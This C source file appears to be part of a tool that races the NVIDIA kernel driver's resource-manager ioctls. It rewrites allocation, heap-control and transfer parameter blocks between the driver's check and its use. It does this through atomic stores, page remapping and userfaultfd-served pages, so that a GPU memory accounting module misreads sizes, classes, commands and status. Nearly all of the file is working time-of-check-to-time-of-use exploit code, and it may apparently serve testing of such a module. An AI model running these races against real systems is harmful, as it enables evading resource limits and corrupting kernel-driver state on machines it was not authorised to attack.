// SPDX-License-Identifier: Apache-2.0
/* Ways to change what is asked between a check and its use. */
#include <fcntl.h>
#include <linux/userfaultfd.h>
#include <poll.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attack.h"

#define HUGE_512MB	(NVOS32_ATTR2_PAGE_SIZE_HUGE_512MB << NVOS32_ATTR2_PAGE_SIZE_HUGE_LO)
#define PAGE_HUGE	(NVOS32_ATTR_PAGE_SIZE_HUGE << NVOS32_ATTR_PAGE_SIZE_LO)
#define PAGE_4KB	(NVOS32_ATTR_PAGE_SIZE_4KB << NVOS32_ATTR_PAGE_SIZE_LO)
#define IN_SYSMEM	(NVOS32_ATTR_LOCATION_PCI << NVOS32_ATTR_LOCATION_LO)

/* ---- blocks ---- */

static void put_nested(struct lane *lane, u8 *nested, u64 size)
{
	const struct rm_abi *abi = lane->attack->nv.abi;

	memset(nested, 0, abi->memory.len);
	rm_put32(nested, abi->memory.owner, lane->attack->client);
	rm_put64(nested, abi->memory.size, size);
}

static void put_alloc(struct lane *lane, u8 *outer, const u8 *nested, u32 class)
{
	const struct rm_abi *abi = lane->attack->nv.abi;

	memset(outer, 0, abi->nvos64.len);
	rm_put32(outer, abi->nvos64.hRoot, lane->attack->client);
	rm_put32(outer, abi->nvos64.hObjectParent, lane->attack->device);
	rm_put32(outer, abi->nvos64.hObjectNew, lane->handle);
	rm_put32(outer, abi->nvos64.hClass, class);
	rm_put64(outer, abi->nvos64.pAllocParms, (uintptr_t)nested);
	rm_put32(outer, abi->nvos64.paramsSize, abi->memory.len);
	rm_put32(outer, abi->nvos64.status, 0xffffffff);
}

static void put_heap(struct lane *lane, u8 *outer, u64 size)
{
	const struct rm_abi *abi = lane->attack->nv.abi;

	memset(outer, 0, abi->nvos32.len);
	rm_put32(outer, abi->nvos32.hRoot, lane->attack->client);
	rm_put32(outer, abi->nvos32.hObjectParent, lane->attack->device);
	rm_put32(outer, abi->nvos32.function, NVOS32_FUNCTION_ALLOC_SIZE);
	/* the owner stands before the handle */
	rm_put32(outer, (struct rm_f32){ (u16)(abi->nvos32.data_AllocSize_hMemory.off - 4) }, lane->attack->client);
	rm_put32(outer, abi->nvos32.data_AllocSize_hMemory, lane->handle);
	rm_put32(outer, abi->nvos32.data_AllocSize_flags, NVOS32_ALLOC_FLAGS_MEMORY_HANDLE_PROVIDED);
	rm_put64(outer, abi->nvos32.data_AllocSize_size, size);
	rm_put32(outer, abi->nvos32.status, 0xffffffff);
}

static void put_wrapper(struct lane *lane, const u8 *outer)
{
	const struct rm_abi *abi = lane->attack->nv.abi;
	u8 *wrapper = lane_at(lane, WRAPPER);

	memset(wrapper, 0, abi->xfer.len);
	rm_put32(wrapper, abi->xfer.cmd, NV_ESC_RM_ALLOC);
	rm_put32(wrapper, abi->xfer.size, abi->nvos64.len);
	rm_put64(wrapper, abi->xfer.ptr, (uintptr_t)outer);
}

static u32 call(struct lane *lane, u32 nr, u8 *block, u32 size)
{
	int error = nv_ioctl(lane->attack->nv.ctl, nr, block, size);

	return error ? NV_ERRNO(-error) : 0;
}

static u32 ask_alloc(struct lane *lane)
{
	const struct rm_abi *abi = lane->attack->nv.abi;
	u32 error = call(lane, NV_ESC_RM_ALLOC, lane_at(lane, OUTER), abi->nvos64.len);

	return error ? error : rm_get32(lane_at(lane, OUTER), abi->nvos64.status);
}

static u32 ask_heap(struct lane *lane)
{
	const struct rm_abi *abi = lane->attack->nv.abi;
	u32 error = call(lane, NV_ESC_RM_VID_HEAP_CONTROL, lane_at(lane, OUTER), abi->nvos32.len);

	return error ? error : rm_get32(lane_at(lane, OUTER), abi->nvos32.status);
}

static u32 ask_xfer(struct lane *lane)
{
	const struct rm_abi *abi = lane->attack->nv.abi;
	u32 error = call(lane, NV_ESC_IOCTL_XFER_CMD, lane_at(lane, WRAPPER), abi->xfer.len), small, big;

	if (error)
		return error;
	small = rm_get32(lane_at(lane, OUTER), abi->nvos64.status);
	big = rm_get32(lane_at(lane, OUTER_BIG), abi->nvos64.status);
	return small == 0xffffffff ? big : small; /* the one that was answered */
}

/* Aligned, so that the driver never sees half of it. */
static void store32(u8 *block, struct rm_f32 at, u32 value)
{
	__atomic_store_n((u32 *)(void *)(block + at.off), value, __ATOMIC_RELAXED);
}

static void store64(u8 *block, struct rm_f64 at, u64 value)
{
	__atomic_store_n((u64 *)(void *)(block + at.off), value, __ATOMIC_RELAXED);
}

/* ---- fields of the nested block ---- */

static void prepare_alloc(struct lane *lane)
{
	put_nested(lane, lane_at(lane, NESTED), lane->small);
	put_nested(lane, lane_at(lane, NESTED_BIG), lane->big);
	put_alloc(lane, lane_at(lane, OUTER), lane_at(lane, NESTED), NV01_MEMORY_LOCAL_USER);
	put_alloc(lane, lane_at(lane, OUTER_BIG), lane_at(lane, NESTED_BIG), NV01_MEMORY_LOCAL_USER);
}

static void rewrite_size(struct lane *lane, bool big)
{
	store64(lane_at(lane, NESTED), lane->attack->nv.abi->memory.size, big ? lane->big : lane->small);
}

static void rewrite_page(struct lane *lane, bool big)
{
	const struct rm_abi *abi = lane->attack->nv.abi;

	store32(lane_at(lane, NESTED), abi->memory.attr2, big ? HUGE_512MB : 0);
	store32(lane_at(lane, NESTED), abi->memory.attr, big ? PAGE_HUGE : PAGE_4KB);
}

static void prepare_big(struct lane *lane)
{
	prepare_alloc(lane);
	put_nested(lane, lane_at(lane, NESTED), lane->big);
}

static void rewrite_location(struct lane *lane, bool big)
{
	store32(lane_at(lane, NESTED), lane->attack->nv.abi->memory.attr, big ? 0 : IN_SYSMEM);
}

static void rewrite_flags(struct lane *lane, bool big)
{
	store32(lane_at(lane, NESTED), lane->attack->nv.abi->memory.flags, big ? 0 : NVOS32_ALLOC_FLAGS_VIRTUAL);
}

/* ---- fields of the outer block ---- */

static void rewrite_class(struct lane *lane, bool big)
{
	store32(lane_at(lane, OUTER), lane->attack->nv.abi->nvos64.hClass, big ? NV01_MEMORY_LOCAL_USER : NV01_MEMORY_SYSTEM);
}

static void rewrite_pointer(struct lane *lane, bool big)
{
	store64(lane_at(lane, OUTER), lane->attack->nv.abi->nvos64.pAllocParms,
		(uintptr_t)lane_at(lane, big ? NESTED_BIG : NESTED));
}

static void rewrite_params_size(struct lane *lane, bool big)
{
	const struct rm_abi *abi = lane->attack->nv.abi;

	store32(lane_at(lane, OUTER), abi->nvos64.paramsSize, big ? abi->memory.len : lane->random & 1 ? 0 : 8);
}

/* What the call says afterwards, contradicted: a module that believes it takes a grant for a refusal, or for less. */
static void rewrite_answer(struct lane *lane, bool big)
{
	const struct rm_abi *abi = lane->attack->nv.abi;

	store32(lane_at(lane, OUTER), abi->nvos64.status, big ? NV_ERR_NO_MEMORY : NV_ERR_INVALID_ARGUMENT);
	store32(lane_at(lane, OUTER), abi->nvos64.hObjectNew, big ? lane->handle : lane->other);
	store64(lane_at(lane, NESTED), abi->memory.size, big ? lane->small : 1);
}

/* ---- VID_HEAP_CONTROL, where all lies in the outer block ---- */

static void prepare_heap(struct lane *lane)
{
	put_heap(lane, lane_at(lane, OUTER), lane->small);
}

static void prepare_heap_big(struct lane *lane)
{
	put_heap(lane, lane_at(lane, OUTER), lane->big);
}

static void rewrite_heap_size(struct lane *lane, bool big)
{
	store64(lane_at(lane, OUTER), lane->attack->nv.abi->nvos32.data_AllocSize_size, big ? lane->big : lane->small);
}

static void rewrite_heap_flags(struct lane *lane, bool big)
{
	store32(lane_at(lane, OUTER), lane->attack->nv.abi->nvos32.data_AllocSize_flags,
		NVOS32_ALLOC_FLAGS_MEMORY_HANDLE_PROVIDED | (big ? 0 : NVOS32_ALLOC_FLAGS_VIRTUAL));
}

static void rewrite_heap_function(struct lane *lane, bool big)
{
	store32(lane_at(lane, OUTER), lane->attack->nv.abi->nvos32.function,
		big ? NVOS32_FUNCTION_ALLOC_SIZE : NVOS32_FUNCTION_INFO);
}

static void rewrite_heap_location(struct lane *lane, bool big)
{
	store32(lane_at(lane, OUTER), lane->attack->nv.abi->nvos32.data_AllocSize_attr, big ? 0 : IN_SYSMEM);
}

/* ---- IOCTL_XFER_CMD ---- */

static void prepare_xfer(struct lane *lane)
{
	prepare_alloc(lane);
	put_wrapper(lane, lane_at(lane, OUTER));
}

static void rewrite_xfer_pointer(struct lane *lane, bool big)
{
	store64(lane_at(lane, WRAPPER), lane->attack->nv.abi->xfer.ptr, (uintptr_t)lane_at(lane, big ? OUTER_BIG : OUTER));
}

static void prepare_xfer_big(struct lane *lane)
{
	prepare_big(lane);
	put_wrapper(lane, lane_at(lane, OUTER));
}

/* Command and size in one store: a control, which the account does not care for, becomes an allocation. */
static void rewrite_xfer_command(struct lane *lane, bool big)
{
	const struct rm_abi *abi = lane->attack->nv.abi;
	u64 command = big ? NV_ESC_RM_ALLOC : NV_ESC_RM_CONTROL, size = big ? abi->nvos64.len : abi->nvos54.len;

	store64(lane_at(lane, WRAPPER), (struct rm_f64){ abi->xfer.cmd.off }, command | size << 32);
}

/* NVOS21 and NVOS64 differ in where the parameters' size and the status lie. */
static void rewrite_xfer_size(struct lane *lane, bool big)
{
	const struct rm_abi *abi = lane->attack->nv.abi;

	store32(lane_at(lane, WRAPPER), abi->xfer.size, big ? abi->nvos64.len : abi->nvos21.len);
	store64(lane_at(lane, NESTED), abi->memory.size, big ? lane->big : lane->small);
}

/* ---- the page below the block ---- */

/* Each lane has a page in either file: the small and the big request. */
static void prepare_pages(struct lane *lane)
{
	u8 copy[PAGE] = { 0 };

	put_alloc(lane, lane_at(lane, OUTER), lane_at(lane, NESTED), NV01_MEMORY_LOCAL_USER);
	put_nested(lane, copy, lane->small);
	if (pwrite(lane->attack->pages[0], copy, PAGE, (off_t)lane->nr * PAGE) != PAGE)
		nv_die("write the small request's page: %s", strerror(errno));
	put_nested(lane, copy, lane->big);
	if (pwrite(lane->attack->pages[1], copy, PAGE, (off_t)lane->nr * PAGE) != PAGE)
		nv_die("write the big request's page: %s", strerror(errno));
}

static void place(struct lane *lane, int fd)
{
	u8 *at = lane_at(lane, NESTED);

	if (mmap(at, PAGE, PROT_READ | PROT_WRITE, MAP_FIXED | (fd < 0 ? MAP_PRIVATE | MAP_ANONYMOUS : MAP_SHARED), fd,
		 fd < 0 ? 0 : (off_t)lane->nr * PAGE) == MAP_FAILED)
		nv_die("map a request's page: %s", strerror(errno));
}

static void rewrite_mapping(struct lane *lane, bool big)
{
	place(lane, lane->attack->pages[big]);
}

static void rewrite_hole(struct lane *lane, bool big)
{
	munmap(lane_at(lane, NESTED), PAGE);
	place(lane, lane->attack->pages[big]);
}

static void stop_pages(struct attack *attack)
{
	u32 i;

	for (i = 0; i < attack->lanes; i++)
		place(&attack->lane[i], -1);
}

/* ---- pages that are supplied at the moment they are read, differently each time (userfaultfd) ---- */

static void start_faults(struct attack *attack)
{
	struct uffdio_api api = { .api = UFFD_API };
	u32 i;

	attack->uffd = (int)syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK);
	if (attack->uffd < 0 || ioctl(attack->uffd, UFFDIO_API, &api))
		nv_die("userfaultfd: %s; run as root on a kernel with CONFIG_USERFAULTFD, or leave the way out", strerror(errno));
	for (i = 0; i < attack->lanes; i++) {
		u8 *at = lane_at(&attack->lane[i], NESTED);
		struct uffdio_register watch = { .range = { (uintptr_t)at, PAGE }, .mode = UFFDIO_REGISTER_MODE_MISSING };

		madvise(at, PAGE, MADV_DONTNEED);
		if (ioctl(attack->uffd, UFFDIO_REGISTER, &watch))
			nv_die("UFFDIO_REGISTER: %s", strerror(errno));
	}
}

static void stop_faults(struct attack *attack)
{
	close(attack->uffd); /* its ranges are ordinary memory again, and nobody waits any more */
	attack->uffd = -1;
}

static void prepare_faults(struct lane *lane)
{
	put_nested(lane, lane_at(lane, NESTED_BIG), lane->big);
	put_nested(lane, lane_at(lane, WRAPPER), lane->small);
	put_alloc(lane, lane_at(lane, OUTER), lane_at(lane, NESTED), NV01_MEMORY_LOCAL_USER);
}

/* Supplies whatever page is missing, then takes it away again, so that the next read finds another one. */
static void rewrite_faults(struct lane *lane, bool big)
{
	struct attack *attack = lane->attack;
	struct pollfd ready = { .fd = attack->uffd, .events = POLLIN };
	struct uffd_msg message;
	struct lane *owner;
	u64 address;
	u32 spin;

	if (poll(&ready, 1, 1) != 1 || read(attack->uffd, &message, sizeof(message)) != sizeof(message) ||
	    message.event != UFFD_EVENT_PAGEFAULT)
		return;
	address = message.arg.pagefault.address & ~(u64)(PAGE - 1);
	for (owner = attack->lane; owner < attack->lane + attack->lanes; owner++) {
		struct uffdio_copy copy = { .dst = address, .len = PAGE };

		if (address != (uintptr_t)lane_at(owner, NESTED))
			continue;
		copy.src = (uintptr_t)lane_at(owner, big ? NESTED_BIG : WRAPPER);
		ioctl(attack->uffd, UFFDIO_COPY, &copy);
		for (spin = lane_random(lane) & 0x3ff; spin; spin--)
			__asm__ volatile("" ::: "memory");
		madvise(lane_at(owner, NESTED), PAGE, MADV_DONTNEED);
	}
}

const struct way rewriting_ways[] = {
	{ "size", "the size in the nested block", prepare_alloc, ask_alloc, rewrite_size, NULL, NULL, false },
	{ "page", "the page size in the nested block", prepare_alloc, ask_alloc, rewrite_page, NULL, NULL, false },
	{ "location", "system memory becomes video memory, nested", prepare_big, ask_alloc, rewrite_location, NULL, NULL, false },
	{ "flags", "virtual memory becomes video memory, nested", prepare_big, ask_alloc, rewrite_flags, NULL, NULL, false },
	{ "class", "system memory becomes video memory, outer", prepare_big, ask_alloc, rewrite_class, NULL, NULL, false },
	{ "pointer", "pAllocParms", prepare_alloc, ask_alloc, rewrite_pointer, NULL, NULL, false },
	{ "params-size", "paramsSize", prepare_big, ask_alloc, rewrite_params_size, NULL, NULL, false },
	{ "answer", "what the call answers", prepare_alloc, ask_alloc, rewrite_answer, NULL, NULL, true },
	{ "heap-size", "the size in VID_HEAP_CONTROL", prepare_heap, ask_heap, rewrite_heap_size, NULL, NULL, false },
	{ "heap-flags", "virtual becomes video in VID_HEAP_CONTROL", prepare_heap_big, ask_heap, rewrite_heap_flags, NULL, NULL,
	  false },
	{ "heap-function", "INFO becomes ALLOC_SIZE in VID_HEAP_CONTROL", prepare_heap_big, ask_heap, rewrite_heap_function, NULL,
	  NULL, true },
	{ "heap-location", "system becomes video in VID_HEAP_CONTROL", prepare_heap_big, ask_heap, rewrite_heap_location, NULL,
	  NULL, false },
	{ "xfer-pointer", "the pointer in IOCTL_XFER_CMD", prepare_xfer, ask_xfer, rewrite_xfer_pointer, NULL, NULL, true },
	{ "xfer-command", "a control becomes an allocation in IOCTL_XFER_CMD", prepare_xfer_big, ask_xfer, rewrite_xfer_command,
	  NULL, NULL, true },
	{ "xfer-size", "the block's size in IOCTL_XFER_CMD, with the nested size", prepare_xfer, ask_xfer, rewrite_xfer_size, NULL,
	  NULL, true },
	{ "remap", "another page is mapped over the parameters", prepare_pages, ask_alloc, rewrite_mapping, NULL, stop_pages,
	  false },
	{ "unmap", "the parameters' page goes and comes back", prepare_pages, ask_alloc, rewrite_hole, NULL, stop_pages, false },
	{ "faults", "userfaultfd supplies other parameters to each read", prepare_faults, ask_alloc, rewrite_faults, start_faults,
	  stop_faults, false },
	{ 0 }
};
